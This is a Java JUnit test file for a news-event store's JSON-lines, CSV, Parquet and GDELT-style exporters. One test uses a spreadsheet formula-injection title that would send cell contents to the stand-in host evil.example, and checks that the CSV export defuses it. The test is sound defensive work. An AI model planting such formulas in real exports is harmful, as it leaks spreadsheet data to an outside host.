package dev.newsgraph.store.export;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;

import dev.newsgraph.model.RecordCodec;
import dev.newsgraph.model.StoryRecord;
import dev.newsgraph.store.NewsFixtures;
import dev.newsgraph.store.Store;
import dev.newsgraph.store.StoryRecords;
import java.nio.file.Files;
import java.nio.file.Path;
import java.sql.Connection;
import java.sql.DriverManager;
import java.sql.ResultSet;
import java.sql.Statement;
import java.util.List;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

class ExportsTest {
    @TempDir
    static Path dir;
    static Store store;

    @BeforeAll
    static void fill() {
        store = Store.open(dir.resolve("db").toString(), true);
        store.putAll(NewsFixtures.all());
        store.putAll(NewsFixtures.located());
    }

    @org.junit.jupiter.api.AfterAll
    static void close() {
        store.close();
    }

    @Test
    void jsonLinesGivesBackEveryRecordWhole() throws Exception {
        Path out = dir.resolve("out/records.jsonl");
        assertEquals(10, JsonLinesExport.write(store, out));
        List<StoryRecord> back = Files.readAllLines(out).stream().map(RecordCodec::fromJson).toList();
        List<StoryRecord> stored = new java.util.ArrayList<>(NewsFixtures.all());
        stored.addAll(NewsFixtures.located());
        assertEquals(stored, back);
    }

    @Test
    void csvFolderHoldsFiveTablesAndMergedEventsOnceEach() throws Exception {
        List<Path> files = CsvExport.write(store, dir.resolve("csv"));
        assertEquals(List.of("articles.csv", "actors.csv", "events.csv", "reports.csv", "quotes.csv"),
                files.stream().map(p -> p.getFileName().toString()).toList());
        List<String> events = Files.readAllLines(dir.resolve("csv/events.csv"));
        assertEquals("id,date,day,precision,type,mode,source_ids,sources,target_ids,targets,location_id,location,"
                + "lat,lon,place_country,place_precision,place_geonames,reports,urls,evidence", events.get(0));
        assertEquals(6, events.size());
        assertEquals(8, Files.readAllLines(dir.resolve("csv/reports.csv")).size());
        String lviv = events.stream().filter(l -> l.contains("PROTEST")).findFirst().orElseThrow();
        assertTrue(lviv.contains(",Lviv,49.83826,24.02324,UKR,city,702550,1,"), lviv);
        String consult = events.stream().filter(l -> l.contains("CONSULT") && l.contains("Witkoff")).findFirst().orElseThrow();
        assertTrue(consult.contains(",Steve Witkoff,"), consult);
        assertTrue(consult.contains("https://example.com/reuters/putin-witkoff https://example.com/ap/kremlin-talks"), consult);
        assertTrue(consult.contains("\"Russian President Vladimir Putin met US envoy Steve Witkoff in St Petersburg on Friday,"
                + " the Kremlin said.\""), consult);
        List<Path> single = CsvExport.write(store, dir.resolve("one/events.csv"));
        assertEquals(List.of(dir.resolve("one/events.csv")), single);
    }

    @Test
    void csvWritesTextThatASpreadsheetWouldRunAsTextAndParquetKeepsItExactly() throws Exception {
        String title = "=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")";
        try (Store own = Store.open(dir.resolve("formula-db").toString(), true)) {
            own.put(StoryRecords.article("sha256:formula", title, "2025-05-01", "-5 degrees in Oslo, the institute said.")
                    .build());
            CsvExport.write(own, dir.resolve("formula-csv"));
            List<String> articles = Files.readAllLines(dir.resolve("formula-csv/articles.csv"));
            assertTrue(articles.get(1).contains(",\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"Click\"\")\","),
                    articles.get(1));
            assertTrue(articles.get(1).endsWith(",0,0,0"), "counts stay plain numbers: " + articles.get(1));
            ParquetExport.write(own, dir.resolve("formula-parquet"));
            try (Connection c = DriverManager.getConnection("jdbc:duckdb:"); Statement st = c.createStatement();
                 ResultSet rs = st.executeQuery("SELECT title FROM read_parquet('"
                         + dir.resolve("formula-parquet/articles.parquet") + "')")) {
                assertTrue(rs.next());
                assertEquals(title, rs.getString(1), "Parquet is read by programs: the text is kept as it was");
            }
        }
    }

    @Test
    void parquetTablesReadBackInDuckDbWithTheirTypes() throws Exception {
        List<Path> files = ParquetExport.write(store, dir.resolve("parquet"));
        assertEquals(5, files.size());
        try (Connection c = DriverManager.getConnection("jdbc:duckdb:"); Statement st = c.createStatement()) {
            Path events = dir.resolve("parquet/events.parquet");
            try (ResultSet rs = st.executeQuery("SELECT lat, lon, typeof(lat), place_country FROM read_parquet('"
                    + events + "') WHERE lat IS NOT NULL ORDER BY lon")) {
                assertTrue(rs.next());
                assertEquals(24.02324, rs.getDouble(2), 1e-9);
                assertEquals("DOUBLE", rs.getString(3));
                assertTrue(rs.next());
                assertEquals(49.98081, rs.getDouble(1), 1e-9);
                assertTrue(rs.next());
                assertEquals("FJI", rs.getString(4));
                assertFalse(rs.next());
            }
            try (ResultSet rs = st.executeQuery("SELECT type, reports, typeof(reports), sources FROM read_parquet('"
                    + events + "') WHERE day < '2025-05-01' ORDER BY day")) {
                assertTrue(rs.next());
                assertEquals("ASSAULT", rs.getString(1));
                assertEquals(2, rs.getLong(2));
                assertEquals("BIGINT", rs.getString(3));
                assertEquals("Russia", rs.getString(4));
                assertTrue(rs.next());
                assertEquals("CONSULT", rs.getString(1));
            }
            try (ResultSet rs = st.executeQuery("SELECT count(*) FROM read_parquet('" + dir.resolve("parquet/articles.parquet")
                    + "') WHERE story = 'sha256:strike'")) {
                rs.next();
                assertEquals(2, rs.getLong(1));
            }
        }
    }

    @Test
    void gdeltTableHasGdeltsColumnsInOrderAndOneRowPerMergedEvent() throws Exception {
        Path out = dir.resolve("gdelt/events.tsv");
        assertEquals(5, GdeltExport.create().write(store, out));
        List<String> lines = Files.readAllLines(out);
        assertEquals(5, lines.size());
        String[] consult = lines.stream().filter(l -> l.contains("\tCONSULT\t") && l.contains("Witkoff")).findFirst().orElseThrow().split("\t", -1);
        assertEquals(GdeltExport.COLUMNS.size(), consult.length);
        assertEquals("20250411", consult[col("SQLDATE")]);
        assertEquals("202504", consult[col("MonthYear")]);
        assertEquals("USAGOV", consult[col("Actor1Code")]);
        assertEquals("STEVE WITKOFF", consult[col("Actor1Name")]);
        assertEquals("RUS", consult[col("Actor2CountryCode")]);
        assertEquals("CONSULT", consult[col("EventRootCode")]);
        assertEquals("1", consult[col("QuadClass")]);
        assertEquals("2", consult[col("NumArticles")]);
        assertEquals("2", consult[col("NumSources")]);
        assertEquals("St Petersburg", consult[col("ActionGeo_FullName")]);
        assertEquals("https://example.com/reuters/putin-witkoff", consult[col("SOURCEURL")]);
        assertEquals(14, consult[col("DATEADDED")].length());
        assertEquals("visit", consult[col("PloverMode")]);
        assertTrue(consult[col("Evidence")].startsWith("Russian President Vladimir Putin met"));
        assertEquals(61, GdeltExport.GDELT_COLUMNS);
        assertEquals("SOURCEURL", GdeltExport.COLUMNS.get(60));
        String[] assault = lines.stream().filter(l -> l.contains("\tASSAULT\t") && l.contains("Kryvyi Rih"))
                .findFirst().orElseThrow().split("\t", -1);
        assertEquals("4", assault[col("QuadClass")]);
        assertEquals("-9.5", assault[col("GoldsteinScale")]);
    }

    @Test
    void gdeltTableLocatesAnEventAndTheActorThatIsItsPlace() throws Exception {
        Path out = dir.resolve("gdelt-geo/events.tsv");
        GdeltExport.create().write(store, out);
        List<String> lines = Files.readAllLines(out);
        String[] kharkiv = lines.stream().filter(l -> l.contains("Drones") || l.contains("drones")).findFirst()
                .orElseThrow().split("\t", -1);
        assertEquals("4", kharkiv[col("ActionGeo_Type")]);
        assertEquals("Kharkiv, Ukraine", kharkiv[col("ActionGeo_FullName")]);
        assertEquals("UKR", kharkiv[col("ActionGeo_CountryCode")]);
        assertEquals("", kharkiv[col("ActionGeo_ADM1Code")]);
        assertEquals("49.98081", kharkiv[col("ActionGeo_Lat")]);
        assertEquals("36.25272", kharkiv[col("ActionGeo_Long")]);
        assertEquals("706483", kharkiv[col("ActionGeo_FeatureID")]);
        // the target is Kharkiv itself; the source, Russia, is not placed
        assertEquals("49.98081", kharkiv[col("Actor2Geo_Lat")]);
        assertEquals("", kharkiv[col("Actor1Geo_Lat")]);
        String[] suva = lines.stream().filter(l -> l.contains("Rabuka")).findFirst().orElseThrow().split("\t", -1);
        assertEquals("Suva, Central, Fiji", suva[col("ActionGeo_FullName")]);
        assertEquals("-18.14161", suva[col("ActionGeo_Lat")]);
        assertEquals("", suva[col("Actor2Geo_Lat")]);
    }

    @Test
    void gdeltGeoTypeFollowsThePrecisionAndWhetherThePlaceIsInTheUnitedStates() {
        List<String> texas = new java.util.ArrayList<>();
        GdeltExport.geo(texas, new dev.newsgraph.model.Geo("4736286", "Texas", 31.25, -99.25, "USA", "Texas", "ADM1",
                "admin1"));
        assertEquals(List.of("2", "Texas, United States", "USA", "", "", "31.25000", "-99.25000", "4736286"), texas);
        List<String> austin = new java.util.ArrayList<>();
        GdeltExport.geo(austin, new dev.newsgraph.model.Geo("4671654", "Austin", 30.26715, -97.74306, "USA", "Texas",
                "PPLA", "city"));
        assertEquals("3", austin.get(0));
        assertEquals("Austin, Texas, United States", austin.get(1));
        List<String> bavaria = new java.util.ArrayList<>();
        GdeltExport.geo(bavaria, new dev.newsgraph.model.Geo("2951839", "Bavaria", 49.0, 11.5, "DEU", "Bavaria", "ADM1",
                "admin1"));
        assertEquals("5", bavaria.get(0));
        List<String> ukraine = new java.util.ArrayList<>();
        GdeltExport.geo(ukraine, new dev.newsgraph.model.Geo(null, "Ukraine", 49.0, 32.0, "UKR", null, "PCLI", "country"));
        assertEquals(List.of("1", "Ukraine", "UKR", "UKR", "", "49.00000", "32.00000", "UKR"), ukraine);
    }

    private static int col(String name) {
        return GdeltExport.COLUMNS.indexOf(name);
    }
}
